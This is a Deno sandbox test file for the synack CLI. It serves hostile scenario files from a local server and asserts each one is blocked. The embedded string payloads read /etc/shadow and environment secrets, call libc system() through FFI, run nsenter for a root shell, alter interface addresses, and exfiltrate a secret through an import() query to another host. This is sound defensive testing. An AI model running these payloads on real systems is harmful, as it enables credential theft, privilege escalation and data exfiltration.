/**
 * Running someone else's scenario: every attack a hostile gist was seen to
 * make, served from a local HTTP server, through `run`, `test`, `compile` and
 * the REPL's `.load`, on the built-in target and (as root) on the kernel.
 * Each must be blocked, leave no trace on the host, and fail its own
 * scenario while the run goes on to a summary synack wrote.
 *
 * The attack files live here as strings, never as .ts files of the tree: a
 * folder run (`synack test tests/`) must not find them and run them trusted.
 */
import assert from "node:assert/strict";
import { kernelUnavailable } from "../runtime/kernel/kernel_support.ts";

const ROOT = new URL("../", import.meta.url).pathname;
const CLI = `${ROOT}cli/main.ts`;
const NONCE = `${Deno.pid}-${Math.floor(Math.random() * 1e9)}`;
/** Files the attacks try to create; none may exist afterwards. */
const MARK = (what: string) => `/tmp/synack-attack-${NONCE}-${what}`;
const SECRET = `s3cret-${NONCE}`;
const STOLEN_ADDR = "198.51.100.77";

/** A server that logs every request: the gist host, or the "internal service". */
function server(files: Record<string, string>) {
  const log: string[] = [];
  const ac = new AbortController();
  const s = Deno.serve(
    { port: 0, hostname: "127.0.0.1", signal: ac.signal, onListen() {} },
    (req) => {
      const u = new URL(req.url);
      log.push(`${u.pathname}${u.search}`);
      const body = files[u.pathname];
      if (body === undefined) return new Response("not found", { status: 404 });
      const type = u.pathname.endsWith(".json") ? "application/json" : "text/plain";
      return new Response(body, { headers: { "content-type": type } });
    },
  );
  return {
    url: `http://127.0.0.1:${s.addr.port}`,
    log,
    stop: async () => {
      ac.abort();
      await s.finished;
    },
  };
}

/**
 * Each attack runs twice: at load time (caught, so that the file still
 * defines its scenario) and in a code-form body (uncaught: it fails there).
 * A success prints LEAK, which must never appear.
 */
function attackFile(name: string, attack: string): string {
  return `import { listen, scenario } from "synack";
const attempt = async () => { ${attack} };
try { console.log("LEAK at load", String(await attempt()).slice(0, 80)); }
catch (e) { console.log("blocked at load:", (e as Error).name); }
scenario(${JSON.stringify(name)}, async (s) => {
  await s.run(listen(8080));
  console.log("LEAK in body", String(await attempt()).slice(0, 80));
});
`;
}

function attacks(internal: string): Record<string, string> {
  const run = (cmd: string, args: string[]) =>
    `return new TextDecoder().decode(new Deno.Command(${JSON.stringify(cmd)}, { args: ${
      JSON.stringify(args)
    } }).outputSync().stdout);`;
  return {
    "/gist/shadow.ts": attackFile(
      "read /etc/shadow",
      `return Deno.readTextFileSync("/etc/shadow");`,
    ),
    "/gist/env.ts": attackFile(
      "read the environment",
      `return JSON.stringify(Deno.env.toObject());`,
    ),
    "/gist/write.ts": attackFile(
      "write a file",
      `Deno.writeTextFileSync(${JSON.stringify(MARK("write"))}, "x"); return "wrote";`,
    ),
    "/gist/spawn.ts": attackFile("run id", run("id", [])),
    "/gist/ffi.ts": attackFile(
      "FFI system()",
      `const libc = Deno.dlopen("libc.so.6", { system: { parameters: ["buffer"], result: "i32" } });
       return libc.symbols.system(new TextEncoder().encode(${
        JSON.stringify(`touch ${MARK("ffi")}`)
      } + "\\0"));`,
    ),
    "/gist/nsenter.ts": attackFile(
      "nsenter a root shell",
      run("nsenter", [
        "--net=/proc/self/ns/net",
        "--",
        "/bin/sh",
        "-c",
        `touch ${MARK("nsenter")}`,
      ]),
    ),
    "/gist/ip.ts": attackFile(
      "ip addr add",
      run("ip", ["addr", "add", `${STOLEN_ADDR}/32`, "dev", "lo"]),
    ),
    "/gist/deno.ts": attackFile(
      "an unrestricted Deno",
      run(Deno.execPath(), [
        "eval",
        `Deno.writeTextFileSync(${JSON.stringify(MARK("deno"))}, "x")`,
      ]),
    ),
    "/gist/import.ts": attackFile(
      "import() to another host",
      `const m = await import("${internal}/x.js?secret=" + "${SECRET}"); return m.default;`,
    ),
    "/gist/json.ts": attackFile(
      "JSON import from an internal service",
      `const m = await import("${internal}/secret.json", { with: { type: "json" } }); return JSON.stringify(m.default);`,
    ),
    "/gist/exit.ts": `import { listen, scenario } from "synack";
scenario("exit 0 spoofing a pass", async (s) => {
  await s.run(listen(8080));
  console.log("42 passed, 0 failed");
  Deno.exit(0);
});
`,
    "/gist/exit_at_load.ts": `console.log("42 passed, 0 failed");\nDeno.exit(0);\n`,
    "/gist/never.ts": `import { listen, scenario } from "synack";
scenario("a promise that never settles", async (s) => {
  await s.run(listen(8080));
  await new Promise(() => {});
});
`,
    "/gist/busy.ts": `import { listen, scenario } from "synack";
scenario("while (true)", async (s) => {
  await s.run(listen(8080));
  while (true) { /* spin */ }
});
`,
    "/gist/busy_at_load.ts": `while (true) { /* spin */ }\n`,
    "/gist/throws.ts": `import { listen, scenario } from "synack";
scenario("a throw in a body", async (s) => {
  await s.run(listen(8080));
  throw new Error("thrown on purpose");
});
`,
    "/gist/fine.ts": `import { expect, inject, rstAck, scenario, syn } from "synack";
scenario("an honest scenario after them", [inject(syn().ports(40000, 9)), expect(rstAck().seq(0).ack(1))]);
`,
  };
}

/** Files each command finds broken at load time, and those whose bodies fail. */
const AT_LOAD = ["exit_at_load", "busy_at_load"];
const BODY_FAILS = [
  "read /etc/shadow",
  "read the environment",
  "write a file",
  "run id",
  "FFI system()",
  "nsenter a root shell",
  "ip addr add",
  "an unrestricted Deno",
  "import() to another host",
  "JSON import from an internal service",
  "exit 0 spoofing a pass",
  "a promise that never settles",
  "while (true)",
  "a throw in a body",
];

async function synack(args: string[], stdin?: string) {
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", CLI, ...args],
    cwd: ROOT,
    env: { NO_COLOR: "1", SECRET_TOKEN: SECRET },
    stdin: stdin === undefined ? "null" : "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  if (stdin !== undefined) {
    const w = child.stdin.getWriter();
    await w.write(new TextEncoder().encode(stdin));
    await w.close();
  }
  const out = await child.output();
  const dec = new TextDecoder();
  const stdout = dec.decode(out.stdout);
  return { code: out.code, stdout, out: stdout + dec.decode(out.stderr) };
}

function hostAddresses(): string {
  return new TextDecoder().decode(
    new Deno.Command("ip", { args: ["-o", "addr", "show", "dev", "lo"], stdout: "piped" })
      .outputSync().stdout,
  );
}

/** What must hold after any command ran the attacks. */
function assertNothingEscaped(out: string, internalLog: readonly string[]): void {
  assert.doesNotMatch(out, /LEAK/, out);
  assert.ok(!out.includes(SECRET), "the secret environment variable leaked");
  assert.doesNotMatch(out, /root:[^\n]*:\d+:/, "/etc/shadow leaked");
  assert.doesNotMatch(out, /db-password/);
  for (const what of ["write", "ffi", "nsenter", "deno"]) {
    assert.throws(() => Deno.statSync(MARK(what)), `${MARK(what)} was created`);
  }
  assert.deepEqual(internalLog, [], "the internal service was reached");
  assert.ok(!hostAddresses().includes(STOLEN_ADDR), "the host's lo got an address");
}

/** A spoofed summary only ever shows as the scenario's marked output. */
function assertNoSpoofedSummary(out: string): void {
  for (const line of out.split("\n")) {
    if (line.includes("42 passed")) assert.match(line, /^\s+output\| /, line);
  }
}

async function withServers(
  fn: (gist: ReturnType<typeof server>, internal: ReturnType<typeof server>) => Promise<void>,
) {
  const internal = server({
    "/x.js": "export default 'exfiltrated';",
    "/secret.json": '{"internal":"db-password-123"}',
  });
  const gist = server(attacks(internal.url));
  try {
    await fn(gist, internal);
  } finally {
    await gist.stop();
    await internal.stop();
    for (const what of ["write", "ffi", "nsenter", "deno"]) {
      try {
        Deno.removeSync(MARK(what));
      } catch { /* not there: good */ }
    }
  }
}

const ALL = Object.keys(attacks("http://x"));
/** The real-time limit the hostile runs get: the spinning ones end there. */
const LIMIT = "4s";
const urls = (base: string) => ALL.map((p) => `${base}${p}`);

/** The gist server saw only the attack files themselves, each fetched once. */
function assertFetchedOnlyTheFiles(log: readonly string[]): void {
  for (const l of log) assert.ok(ALL.includes(l), `the gist host was asked for ${l}`);
}

/** The checks on `synack run` and `synack test` output of the whole corpus. */
async function checkRun(target: string, base: string, internal: string[], gistLog: string[]) {
  const r = await synack(["run", "--target", target, "--timeout", LIMIT, ...urls(base)]);
  assertNothingEscaped(r.out, internal);
  assertNoSpoofedSummary(r.out);
  // Loaded files that broke at load time are input errors: exit 2, after the summary.
  assert.equal(r.code, 2, r.out);
  for (const name of BODY_FAILS) assert.match(r.out, new RegExp(`^FAIL ${escape(name)} `, "m"));
  assert.match(r.out, /^ok {3}an honest scenario after them /m);
  for (const f of AT_LOAD) {
    assert.match(r.out, new RegExp(`^FAIL \\(did not load\\) \\(.*${f}\\.ts`, "m"));
  }
  const last = r.stdout.trimEnd().split("\n").at(-1);
  const failed = BODY_FAILS.length + AT_LOAD.length;
  assert.equal(last, `1 passed, ${failed} failed (2 files did not load)`);
  // One line per URL before its code ran: the URL, its sha256, what it may do.
  for (const u of urls(base)) {
    assert.match(
      r.out,
      new RegExp(
        `^synack: running ${escape(u)} \\(sha256 [0-9a-f]{64}\\) sandboxed: may import from ${
          escape(base)
        } and synack's own modules; no files, network, environment, programs or FFI$`,
        "m",
      ),
    );
  }
  // The verdicts name what happened.
  const verdict = (name: string, why: RegExp) =>
    assert.match(r.out, new RegExp(`FAIL ${escape(name)} [^\\n]*\\n\\s+${why.source}`));
  verdict("read /etc/shadow", /.*NotCapable: Requires read access to "\/etc\/shadow"/);
  verdict("exit 0 spoofing a pass", /the scenario exited with 0 before finishing/);
  verdict(
    "a promise that never settles",
    /the scenario's code awaits a promise that never settles/,
  );
  verdict(
    "while (true)",
    /the scenario did not finish within \d s \(real time\): it was waiting on the scenario's own code, after step 3, listen\(\)/,
  );
  verdict(
    "a throw in a body",
    /http:[^\n]*\/gist\/throws\.ts:4:9: the scenario threw Error: thrown on purpose/,
  );
  assert.match(r.out, /busy_at_load\.ts[^\n]*\n\s+loading did not finish within \d s/);
  assert.match(
    r.out,
    /exit_at_load\.ts[^\n]*\n\s+the scenario exited with 0 before finishing \(while loading\)/,
  );
  assertFetchedOnlyTheFiles(gistLog);
}

async function checkTest(target: string, base: string, internal: string[]) {
  const dir = await Deno.makeTempDir();
  try {
    const r = await synack([
      "test",
      "--target",
      target,
      "--timeout",
      LIMIT,
      "--junit",
      `${dir}/r.xml`,
      ...urls(base),
    ]);
    assertNothingEscaped(r.out, internal);
    assertNoSpoofedSummary(r.out);
    assert.equal(r.code, 2, r.out);
    const total = BODY_FAILS.length + AT_LOAD.length + 1;
    assert.match(
      await Deno.readTextFile(`${dir}/r.xml`),
      new RegExp(`<testsuites name="synack" tests="${total}" failures="${total - 1}"`),
    );
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

async function checkLoad(target: string, base: string, internal: string[]) {
  const loads = urls(base).map((u) => `.load ${u}`).join("\n");
  const r = await synack(
    ["repl", "--target", target, "--timeout", LIMIT],
    `${loads}\nlisten(9000)\n.exit\n`,
  );
  assertNothingEscaped(r.out, internal);
  assertNoSpoofedSummary(r.out);
  // Load-time attacks were refused inside the sandbox; the session still ran the last line.
  assert.match(r.out, /output\| blocked at load: NotCapable/);
  assert.match(r.out, /busy_at_load\.ts: did not load: loading did not finish within \d s/);
  assert.match(r.out, /listen\(3\) = 0/);
  assert.equal(r.code, 0, r.out);
}

const kernelWhy = kernelUnavailable();
for (const t of [{ name: "builtin", why: undefined }, { name: "kernel", why: kernelWhy }]) {
  Deno.test({
    name: `sandbox: run, test and .load of hostile URLs on ${t.name}: every attack blocked${
      t.why ? ` (skipped: ${t.why})` : ""
    }`,
    ignore: t.why !== undefined,
    async fn() {
      // One server pair per command, so that each command's fetches are its own.
      const each = (
        check: (g: ReturnType<typeof server>, i: ReturnType<typeof server>) => Promise<void>,
      ) => withServers(check);
      await Promise.all([
        each((g, i) => checkRun(t.name, g.url, i.log, g.log)),
        each((g, i) => checkTest(t.name, g.url, i.log)),
        each((g, i) => checkLoad(t.name, g.url, i.log)),
      ]);
    },
  });
}

Deno.test("sandbox: synack compile <URLs> loads them sandboxed and prints what they describe", async () => {
  await withServers(async (gist, internal) => {
    const r = await synack(["compile", "--timeout", LIMIT, ...urls(gist.url)]);
    assertNothingEscaped(r.out, internal.log);
    assertNoSpoofedSummary(r.out);
    assertFetchedOnlyTheFiles(gist.log);
    assert.equal(r.code, 2, r.out);
    assert.match(r.out, /# an honest scenario after them/);
    assert.match(r.out, /# read \/etc\/shadow .*written as code; run it to see its packets/);
  });
});

Deno.test("sandbox: #sha256= pins the content; a mismatch runs nothing", async () => {
  await withServers(async (gist) => {
    const u = `${gist.url}/gist/fine.ts`;
    const body = new TextEncoder().encode(attacks("http://x")["/gist/fine.ts"]);
    const hex = Array.from(new Uint8Array(await crypto.subtle.digest("SHA-256", body)))
      .map((b) => b.toString(16).padStart(2, "0")).join("");
    const ok = await synack(["run", `${u}#sha256=${hex}`]);
    assert.equal(ok.code, 0, ok.out);
    assert.match(ok.out, new RegExp(`sha256 ${hex}`));
    const bad = await synack(["run", `${u}#sha256=${"0".repeat(64)}`]);
    assert.equal(bad.code, 2, bad.out);
    assert.match(
      bad.out,
      new RegExp(
        `synack: ${
          escape(u)
        }: want content with sha256 0{64} \\(#sha256=\\), got ${hex}; nothing was run`,
      ),
    );
    assert.doesNotMatch(bad.out, /passed/);
    const malformed = await synack(["run", `${u}#sha256=abc`]);
    assert.equal(malformed.code, 2);
    assert.match(malformed.out, /want #sha256=<64 hex digits> after the URL, got "#sha256=abc"/);
  });
});

Deno.test("sandbox: --allow-write lets a sandboxed file write, and says so first", async () => {
  const mark = MARK("allowed");
  const files = {
    "/gist/w.ts": `import { listen, scenario } from "synack";
Deno.writeTextFileSync(${JSON.stringify(mark)}, "x");
scenario("writes", [listen(8080)]);
`,
  };
  const gist = server(files);
  try {
    const denied = await synack(["run", `${gist.url}/gist/w.ts`]);
    assert.equal(denied.code, 2, denied.out);
    assert.match(denied.out, /Requires write access to/);
    assert.throws(() => Deno.statSync(mark));
    const allowed = await synack(["run", `--allow-write=${mark}`, `${gist.url}/gist/w.ts`]);
    assert.equal(allowed.code, 0, allowed.out);
    assert.match(allowed.out, new RegExp(`allowed by flag: write ${escape(mark)}`));
    Deno.removeSync(mark);
  } finally {
    await gist.stop();
  }
});

Deno.test("sandbox: --sandbox runs a local file as untrusted code", async () => {
  const dir = await Deno.makeTempDir();
  const mark = MARK("local");
  try {
    await Deno.writeTextFile(
      `${dir}/local.ts`,
      `import { listen, scenario } from "synack";
scenario("writes from a local file", async (s) => {
  await s.run(listen(8080));
  Deno.writeTextFileSync(${JSON.stringify(mark)}, "x");
});
`,
    );
    const r = await synack(["run", "--sandbox", `${dir}/local.ts`]);
    assert.equal(r.code, 1, r.out);
    assert.match(r.out, /FAIL writes from a local file/);
    assert.match(r.out, /Requires write access/);
    assert.throws(() => Deno.statSync(mark));
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

function escape(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
